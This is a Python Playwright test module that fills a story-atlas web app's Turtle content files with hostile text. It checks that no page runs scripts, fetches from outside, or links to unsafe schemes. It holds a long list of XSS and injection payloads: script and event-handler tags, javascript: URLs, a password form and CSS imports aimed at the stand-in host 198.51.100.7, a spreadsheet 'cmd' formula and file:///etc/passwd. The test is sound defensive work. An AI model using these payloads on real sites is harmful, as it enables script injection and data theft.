"""No text of a story, an idea or a source is ever run or fetched, on any page.

A content whose every kind of text holds something that wants to be more than a text, in a real browser
under the policy that the server sends: the pages of the app, the plain pages, the pictures; and files
that cannot be read stop no other.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from urllib.parse import urlencode, urlsplit

import pytest
from playwright.sync_api import Browser, expect

from tests.app_pages import LOOKS
from tests.browser import MARKS, PICTURES, PlainVisit, Visit, frame_of
from tests.conftest import ROOT, serving, some, with_stories
from tests.promises.conftest import Figure
from tests.test_classes import turtle

pytestmark = MARKS

RUN = "document.title='PWN'+'ED'"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN};alert(1)>",
    f"![x](http://198.51.100.7/track.png) [y](javascript:{RUN})",
    "\"><svg onload=alert(1)>' onmouseover='alert(1)",
    "javascript:alert(1)",
    ":material/home: :red[x] $x^2$ {{7*7}} </style></textarea></title>",
    "\u202eevil\u2066 \u200b\u2069\u202c\ufeff",
    "W" * 5_000,
    f"</script><script>{RUN}</script>",
    f"</div></main></body><script>{RUN}</script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg/onload={RUN}>",
    "<iframe src=javascript:alert(1)></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=http://198.51.100.7/'>",
    "<base href=http://198.51.100.7/>",
    "<link rel=stylesheet href=http://198.51.100.7/x.css>",
    "<style>@import url(http://198.51.100.7/x.css); * { display: none }</style>",
    "<form action=http://198.51.100.7/><input name=password autofocus onfocus=alert(1)></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<body onload=alert(1)><marquee onstart=alert(1)>",
    "<a href=java\tscript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    f"'-{RUN}-' ';{RUN};// `${{{RUN}}}`",
    f"${{{RUN}}} #{{{RUN}}} <%= 7*7 %> {{% debug %}}",
    "constructor.constructor('alert(1)')() __proto__",
    '{"@context": "http://198.51.100.7/"} </script>',
    "vbscript:msgbox(1) file:///etc/passwd //198.51.100.7/x",
    "[x](javascript:alert(1)) [x]: javascript:alert(1) <javascript:alert(1)>",
    '<x-component data-x="\'><img src=x onerror=alert(1)>">',
    "<input type=image src=x onerror=alert(1)><button formaction=javascript:alert(1)>",
    "<use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\">",
    "expression(alert(1)) url(http://198.51.100.7/) behavior:url(x)",
    "=cmd|'/c calc'!A1 \u2028 \u2029 \u0085 \u00a0 \u3164",
    "e\u0301\u0301\u0301\u0301\u0301" * 40,
    "\u05e9\u05dc\u05d5\u05dd" * 300,
)
FIELDS = (
    *("skos:prefLabel", "skos:definition", "skos:scopeNote", "atlas:statement", "atlas:because"),
    *("atlas:gap", "atlas:text", "dcterms:title", "dcterms:abstract", "atlas:cost"),
    *("atlas:resistance", "atlas:countsWhen", "atlas:question"),
)
SOON = {"home-", "cases-", "case-id", "concept-id", "search-q", "connect-a-b", "compare-cases"}
"""The views that are looked at in every run; the others in the long tests."""


EACH = 8
"""So many texts of a kind in each file begin with something hostile."""
FILE = "<img src=x onerror=alert(1)>.ttl"


def spoil(file: Path, payloads: Iterator[str]) -> None:
    """Begin the first texts of each kind with something hostile, each with another."""

    def spoilt(found: re.Match[str]) -> str:
        quoted = next(payloads).replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
        return f'{found[1]}"{quoted} prime '

    text = file.read_text("utf-8")
    for field in FIELDS:
        text = re.sub(rf'({field} )"(?!")', spoilt, text, count=EACH)
    text = text.replace('atlas:url "https://', 'atlas:url "javascript:alert(1)//https://')
    file.write_text(text, encoding="utf-8")


@pytest.fixture(scope="module")
def troubled(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The app over stories, ideas, sources and a path full of hostile texts, and two broken files."""
    stories = ("amazon", "easyjet", "glasgow-neonatal-unit", "tesco")
    content = with_stories(tmp_path_factory.mktemp("troubled"), ROOT, stories)
    payloads = cycle(PAYLOADS)
    for file in (
        *(content / "cases").rglob("*.ttl"),
        *(content / "paths").glob("*.ttl"),
        *(content / "ontology").glob("*.ttl"),
        *(content / "ontology" / "schemes").glob("*.ttl"),
    ):
        if file.stem not in {"atlas", "shapes", "style"}:
            spoil(file, payloads)
    (content / "cases" / "broken.ttl").write_text("<#a> <#b> .\n\n<#c> .\n", encoding="utf-8")
    (content / "cases" / "latin.ttl").write_bytes("# caf\xe9\n".encode("latin-1"))
    (content / "cases" / FILE).write_text("<#a> a .", encoding="utf-8")
    (content / "paths" / "weeks.ttl").write_text(turtle("weeks", "Two weeks", 2), encoding="utf-8")
    with serving("--content", str(content)) as address:
        yield address


@pytest.fixture(scope="module")
def window(browser: Browser, troubled: str) -> Iterator[Visit]:
    one = Visit(browser, troubled, "phone", "light")
    one.page.on("dialog", lambda dialog: (one.problems.append(dialog.message), dialog.dismiss()))
    yield one
    one.close()


# --- On every page ---

NAMED = [f"{page}-{'-'.join(query)}" for page, query in LOOKS]
SWEEP = [
    pytest.param(
        f"/{page}?{urlencode(query, doseq=True)}" if page != "home" else "/",
        id=f"{name}-{place}",
        marks=[] if name in SOON and NAMED.index(name) == place else [pytest.mark.long],
    )
    for place, (name, (page, query)) in enumerate(zip(NAMED, LOOKS, strict=True))
]
ANSWERS = [
    "/ask?q=sources_of_story&case=tesco",
    "/ask?q=readings_by_story",
    "/ask?tab=own&query=SELECT+*+%7B+case%3Atesco+?p+?o+%7D",
]


@pytest.mark.parametrize("path", [*SWEEP, *some(ANSWERS, 0)])
def test_no_text_of_the_content_is_run_or_fetched(window: Visit, path: str, figure: Figure) -> None:
    page = window.open(path)
    page.wait_for_timeout(200)  # what would run has run by then
    assert "PWNED" not in page.title()
    expect(page.locator('[data-testid="stException"]')).to_have_count(0)
    assert window.elsewhere == []
    assert window.problems == []
    expect(page.locator("h1")).to_have_count(1)
    run = "img[src='x'], img[src*='198.51'], [onerror], [onload], [onmouseover]"
    expect(page.locator(run)).to_have_count(0)
    hrefs = page.locator("a[href]").evaluate_all(
        "links => links.map(one => one.getAttribute('href'))"
    )
    assert {urlsplit(href).scheme for href in hrefs} <= {"", "http", "https", "mailto"}
    assert page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")
    figure(
        f"{len(PAYLOADS)} hostile texts in {len(FIELDS)} kinds of fields, in every page of the app that "
        "was opened: 0 run, 0 fetched, 0 led to by a link"
    )


# --- In the picture of the graph, and in the one that stands still ---


@pytest.mark.parametrize(
    "path",
    some(
        [
            "/graph?on=case/tesco&pick=case/tesco",
            "/graph?on=case/tesco&pick=case/tesco~shows~concept/first-moment-of-belief",
            "/graph?find=script",
            "/graph?on=<img src=x onerror=document.title='PWNED'>&pick='\"><script>&way=<b>&link=<i>",
        ]
    ),
)
def test_hostile_names_in_the_graph_run_nothing_and_fetch_nothing(
    browser: Browser, troubled: str, path: str, figure: Figure
) -> None:
    one = Visit(browser, troubled, "desk", "light")
    page = one.open(path)
    page.wait_for_timeout(300)  # what would run has run by then
    if "on=case" in path:
        labels = page.locator(".graph").evaluate(
            "root => root.picture.cy.nodes().map(node => node.data('label')).join(' ')"
        )
        assert "onerror=" in labels
        page.locator(".canvas").focus()
        frame = frame_of(page)
        assert "PWNED" not in frame.title()
    assert "PWNED" not in page.title()
    expect(page.locator("img[src='x']")).to_have_count(0)
    assert one.elsewhere == []
    assert one.problems == []
    one.close()
    figure("the same texts in the graph and in the picture that stands still: 0 run, 0 fetched")


# --- On plain pages ---


def test_hostile_words_on_a_plain_page_run_nothing_and_fetch_nothing(
    browser: Browser, troubled: str, figure: Figure
) -> None:
    visit = PlainVisit(browser, troubled, "phone", "light")
    asked: list[str] = []
    visit.page.on("request", lambda request: asked.append(request.url))
    visit.page.on("dialog", lambda dialog: (visit.problems.append("ran"), dialog.dismiss()))
    for path in (
        "",
        "cases",
        "case/tesco",
        "case/tesco/statements",
        "moments",
        "question/stories_by_idea",
        "concept/first-moment-of-belief",
        "case/<script>window.ran=1</script>",
    ):
        asked.clear()
        page = visit.open(f"/read/{path}")
        assert page.evaluate("() => window.ran") is None
        assert "PWNED" not in page.title()
        assert page.evaluate("() => document.images.length") == 0
        assert len([url for url in asked if not url.startswith("data:")]) == 1, path
        assert visit.elsewhere == []
        assert "ran" not in visit.problems
        assert page.evaluate("() => document.documentElement.scrollWidth <= innerWidth"), path
    visit.close()
    figure("the same texts on 8 plain pages: 0 run, 0 fetched")


# --- What stands beside what is broken ---


def test_a_banner_names_the_files_that_are_kept_out_and_the_other_stories_stay(
    window: Visit,
) -> None:
    page = window.open("/cases")
    for words in ("broken.ttl", "latin.ttl"):
        expect(page.get_by_text(words).first).to_be_visible()
    expect(page.get_by_role("link", name="Glasgow Neonatal Unit").first).to_be_visible()
    PICTURES.mkdir(exist_ok=True)
    page.screenshot(path=PICTURES / "banner-phone-light.png")


def test_a_session_that_is_led_to_on_a_phone_is_unfolded_and_no_other(window: Visit) -> None:
    page = window.open("/path?id=weeks")
    told = page.locator("#session-2 .timed")
    expect(told).to_be_hidden()
    page.locator('a[href="#session-2"]').click()
    expect(told).to_be_visible()
    expect(page.locator("#session-1 .timed")).to_be_hidden()
